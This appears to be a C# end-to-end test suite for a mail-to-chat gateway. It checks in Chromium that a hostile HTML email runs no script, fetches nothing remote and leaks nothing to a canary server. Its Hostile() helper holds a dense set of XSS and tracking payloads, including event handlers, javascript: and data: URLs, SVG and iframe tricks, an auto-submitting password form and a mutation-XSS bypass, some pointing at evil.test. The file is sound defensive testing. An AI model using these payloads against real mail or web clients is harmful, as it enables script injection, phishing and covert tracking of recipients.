using SmtpTransport.EndToEnd.Support;

namespace SmtpTransport.EndToEnd.Scenarios;

/// <summary>In Chromium, with a stranger's web server beside it that hears whatever a mail makes the browser ask for.</summary>
internal sealed class Hostile_mails_do_nothing_in_a_browser(ServerKind server) : Scenario(server)
{
    private const string Bob = "bob@mail.test";

    [OneTimeSetUp]
    public static void NeedsChromium() => Assume.That(Browser.IsThere, "Chromium is not installed");

    [Test]
    public async Task Nothing_runs_nothing_is_fetched_and_nobody_is_led_away()
    {
        var canary = Keep(new Canary());
        var link = await SendAsync(canary);

        foreach (var url in new[] { link, link + "/html" })
        {
            var visit = await Browser.VisitAsync(url);
            Assert.That(visit.Page, Does.Contain("the end of it").Or.Contains("<iframe"), "the page is there");
            Assert.That(visit.Page, Does.Not.Contain("pwned"));
            Assert.That(visit.Requests, Does.Contain(link + "/html").And.Contains(link + "/picture/0"), "the mail's own picture is shown");
            Assert.That(visit.Requests.Where(request => request.StartsWith(canary.Url, StringComparison.Ordinal) || request.Contains("evil.test", StringComparison.Ordinal)), Is.Empty);
            Assert.That(canary.Heard, Is.Empty);
        }
    }

    [Test]
    public async Task Pictures_from_the_web_come_when_they_are_asked_for_and_then_say_nothing_of_the_link()
    {
        var canary = Keep(new Canary());
        var link = await SendAsync(canary);

        var visit = await Browser.VisitAsync(link + "/html?images=1");

        Assert.That(canary.Heard.Select(request => request.Split(' ')[1]), Has.Some.EqualTo("/remote.png").And.All.Matches<string>(path => path is "/remote.png" or "/background.png" or "/border"));
        Assert.That(canary.Heard, Has.None.Contains("Referer:").And.None.Contains("/m/"));
        Assert.That(visit.Page, Does.Not.Contain("pwned"));
    }

    /// <summary>The same page, where nobody guards it: what the others would have to notice is noticed.</summary>
    [Test]
    public async Task Without_us_the_same_page_does_its_worst()
    {
        var other = Keep(new Canary());
        var canary = Keep(new Canary { Page = Hostile(other.Url) });

        await Browser.VisitAsync(canary.Url + "/");

        foreach (var path in new[] { "/script", "/onerror", "/remote.png", "/import.css", "/frame", "/object", "/svg" })
            Assert.That(other.Heard, Has.Some.Contains(path));
    }

    private async Task<string> SendAsync(Canary canary)
    {
        var gateway = await StartGatewayAsync(configuration => configuration["Web:PublicUrl"] = $"http://127.0.0.1:{configuration.WebPort}");
        var alice = await NewClientAsync();
        await SmtpConversation.MailAsync(gateway.SmtpPort, Bob, alice.BareJid, Mail(alice.BareJid, Hostile(canary.Url)));
        var body = (await alice.MessageAsync("the end of it")).Element("body")!.Value;
        return body.Split('\n').Single(line => line.StartsWith("Whole mail: ", StringComparison.Ordinal))["Whole mail: ".Length..];
    }

    private static string Hostile(string web) =>
        $$"""
        <html><head><base href="{{web}}/"><meta http-equiv="refresh" content="1;url={{web}}/refresh"><link rel="stylesheet" href="{{web}}/link.css"><link rel="prefetch" href="{{web}}/prefetch">
        <style>@import "{{web}}/import.css"; @font-face{font-family:f;src:url({{web}}/font)} .f{font-family:f} .b{background:url({{web}}/background.png)}
        .cover{position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:url({{web}}/background.png)}</style>
        <script>document.body && document.body.append("pwned"); new Image().src="{{web}}/script"; document.title="pwned"</script></head>
        <body onload="new Image().src='{{web}}/onload';document.body.append('pwned')" background="{{web}}/background.png">
        <img src="{{web}}/remote.png" width="10" height="10"><img src="x:" onerror="new Image().src='{{web}}/onerror';document.body.append('pwned')">
        <img src="cid:dot@mail.test" width="10" height="10"><p class="b f" style="background-image:url({{web}}/background.png)">styled</p>
        <svg width="10" height="10" onload="new Image().src='{{web}}/svgload'"><script>new Image().src="{{web}}/svg"</script><image href="{{web}}/svg" width="5" height="5"/><foreignObject><iframe src="{{web}}/foreign"></iframe></foreignObject><use href="{{web}}/use.svg#a"/></svg>
        <iframe src="{{web}}/frame"></iframe><iframe srcdoc="<script>parent.document.title='pwned'</script>"></iframe><iframe src="javascript:parent.document.title='pwned'"></iframe>
        <object data="{{web}}/object"></object><embed src="{{web}}/embed"><video src="{{web}}/video" poster="{{web}}/poster" autoplay></video><audio src="{{web}}/audio" autoplay></audio>
        <form id="f" action="{{web}}/form" method="post"><input name="password" autofocus onfocus="new Image().src='{{web}}/focus'"><button formaction="{{web}}/button">Log in</button></form><script>f.submit()</script>
        <a href="javascript:document.title='pwned'">a</a><a href="data:text/html,<script>alert(1)</script>">b</a><a ping="{{web}}/ping" href="https://evil.test/">c</a>
        <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='new Image().src=&quot;{{web}}/datasvg&quot;'/>"><img srcset="{{web}}/srcset.png 1x"><picture><source srcset="{{web}}/source.png"><img></picture>
        <table background="{{web}}/background.png"><tr><td style="list-style:url({{web}}/list);cursor:url({{web}}/cursor),auto;border-image:url({{web}}/border)">t</td></tr></table>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='pwned'&gt;"></mglyph></table></mtext></math>
        <div class="cover">cover</div><p>the end of it</p></body></html>
        """;

    private static string Mail(string to, string html) =>
        $"""
        From: Bob <{Bob}>
        To: {to}
        Subject: Hostile
        Message-ID: <{Text.Unique()}@mail.test>
        MIME-Version: 1.0
        Content-Type: multipart/related; boundary=r

        --r
        Content-Type: text/html; charset=utf-8

        {html}
        --r
        Content-Type: image/png; name=dot.png
        Content-ID: <dot@mail.test>
        Content-Transfer-Encoding: base64

        iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==
        --r--

        """.ReplaceLineEndings("\r\n");
}
